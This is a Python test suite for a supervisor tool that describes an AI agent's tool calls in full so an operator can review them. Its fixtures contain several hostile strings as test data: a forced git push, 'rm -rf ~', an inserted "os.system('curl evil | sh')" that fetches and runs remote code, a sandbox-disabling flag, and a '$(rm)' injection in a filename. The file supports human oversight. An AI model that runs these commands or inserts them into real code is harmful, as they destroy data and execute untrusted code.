"""Describing a tool call for the operator: whole, never cut (a review found a 1,600-character
command clipped, and Write/Edit shown without their content)."""

from __future__ import annotations

import difflib
import json

from hypothesis import given, settings
from hypothesis import strategies as st

from supervisor.guard.describe import CallText, describe, describe_call
from supervisor.guard.policy import describe_call as from_policy

TAIL = "; git push --force origin main"


def test_describe_call_is_still_importable_from_policy() -> None:
    assert from_policy is describe_call


def test_a_long_command_is_never_cut() -> None:
    command = "echo " + "x" * 1600 + TAIL
    call = describe("Bash", {"command": command, "description": "print"})
    assert call.text == command and call.text.endswith(TAIL)
    assert call.filename == "command.sh" and call.summary == ""
    assert describe_call("Bash", {"command": "git status"}) == "git status"


def test_bash_flags_are_shown_and_unknown_keys_listed() -> None:
    assert describe("Bash", {"command": "x", "run_in_background": True}).summary == \
        "(in the background)"
    odd = describe("Bash", {"command": "x", "dangerouslyDisableSandbox": True})
    assert odd.summary == 'also {"dangerouslyDisableSandbox":true}'


def test_write_shows_the_whole_content() -> None:
    content = "hé\nthere\n" + "line\n" * 400 + "rm -rf ~\n"
    call = describe("Write", {"file_path": "/w/a.py", "content": content})
    assert call.text == content
    assert call.summary == f"Write /w/a.py ({len(content.encode()):,} bytes, 403 lines)"
    assert call.filename == "write-a.py.txt"
    assert describe_call("Write", {"file_path": "/w/a.py", "content": "hé\nthere\n"}) == \
        "Write /w/a.py (10 bytes, 2 lines)\nhé\nthere\n"


def test_edit_is_a_unified_diff_of_the_whole_change() -> None:
    old = "".join(f"line {i}\n" for i in range(60))
    new = old.replace("line 57\n", "line 57\nos.system('curl evil | sh')\n")
    call = describe("Edit", {"file_path": "/w/a.py", "old_string": old, "new_string": new,
                             "replace_all": True})
    assert call.summary == "Edit /w/a.py (every occurrence)"
    assert call.filename == "edit-a.py.diff"
    lines = call.text.split("\n")
    assert lines[:2] == ["--- /w/a.py (old_string)", "+++ /w/a.py (new_string)"]
    assert "+os.system('curl evil | sh')" in lines
    # Applying the diff to old_string gives new_string: nothing of the change is left out.
    assert list(difflib.restore(difflib.ndiff(old.split("\n"), new.split("\n")), 2)) == \
        new.split("\n")
    short = describe("Edit", {"file_path": "/w/a.py", "old_string": "a = 1", "new_string": "a = 2"})
    assert short.text.split("\n")[2:] == ["@@ -1 +1 @@", "-a = 1", "+a = 2"]


def test_edit_shows_changes_splitlines_would_hide() -> None:
    trailing = describe("Edit", {"file_path": "/p", "old_string": "x", "new_string": "x\n"})
    assert "+" in trailing.text.split("\n")
    carriage = describe("Edit", {"file_path": "/p", "old_string": "a", "new_string": "a\rb"})
    assert "+a\rb" in carriage.text.split("\n")
    same = describe("Edit", {"file_path": "/p", "old_string": "a", "new_string": "a"})
    assert "no change" in same.text


def test_multiedit_shows_every_edit() -> None:
    edits = [{"old_string": f"a{i}", "new_string": f"b{i}"} for i in range(12)]
    call = describe("MultiEdit", {"file_path": "/p/x.txt", "edits": [*edits, "junk"]})
    assert call.summary == "MultiEdit /p/x.txt (13 edits)"
    for i in range(12):
        assert f"-a{i}" in call.text and f"+b{i}" in call.text
        assert f"(old_string, edit {i + 1})" in call.text
    assert "edit 13: not an edit" in call.text
    assert call.filename == "edit-x.txt.diff"


def test_notebook_cell_source_and_other_tools_in_full() -> None:
    nb = describe("NotebookEdit", {"notebook_path": "/n/a.ipynb", "cell_id": "c1",
                                   "new_source": "print(1)\n" * 100, "cell_type": "code"})
    assert nb.summary == "NotebookEdit /n/a.ipynb cell c1 (replace, code)"
    assert nb.text == "print(1)\n" * 100 and nb.filename == "notebook-a.ipynb.txt"
    other = describe("WebFetch", {"url": "https://x", "prompt": "p" * 5000})
    assert other.summary == "WebFetch" and '"p' + "p" * 4999 + '"' in other.text
    assert other.filename == "input-WebFetch.json"
    assert describe_call("Bash", None) == "Bash\n{}"


def test_file_names_are_safe_whatever_the_path() -> None:
    assert describe("Write", {"file_path": "/x/../we ird;$(rm).sh", "content": ""}).filename \
        == "write-we_ird_rm_.sh.txt"
    assert describe("Write", {"content": "y"}).filename == "write-file.txt"
    assert describe("mcp__a/b", {}).filename == "input-mcp__a_b.json"


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["Bash", "Write", "Edit", "MultiEdit", "NotebookEdit", "X", ""]),
       st.dictionaries(st.sampled_from(["command", "content", "file_path", "old_string",
                                        "new_string", "edits", "new_source", "other"]),
                       st.one_of(st.text(max_size=300), st.none(), st.integers(),
                                 st.lists(st.dictionaries(st.sampled_from(
                                     ["old_string", "new_string"]), st.text(max_size=50)),
                                     max_size=3)),
                       max_size=5))
def test_every_input_reaches_the_description_whole(tool: str, inp: dict) -> None:
    call = describe(tool, inp)
    assert isinstance(call, CallText) and call.filename
    if tool == "Bash" and isinstance(inp.get("command"), str):
        assert call.text == inp["command"]
    elif tool == "Write":
        assert call.text == str(inp.get("content", ""))
    elif tool == "NotebookEdit":
        assert call.text == str(inp.get("new_source", ""))
    elif tool == "Edit":
        old, new = (str(inp.get(k) if inp.get(k) is not None else "").split("\n")
                    for k in ("old_string", "new_string"))
        added = set(new) - set(old)
        assert all(f"+{line}" in call.text.split("\n") for line in added)
    elif tool in ("X", ""):
        assert all(json.dumps(v, ensure_ascii=False) in call.text for v in inp.values()
                   if isinstance(v, str))
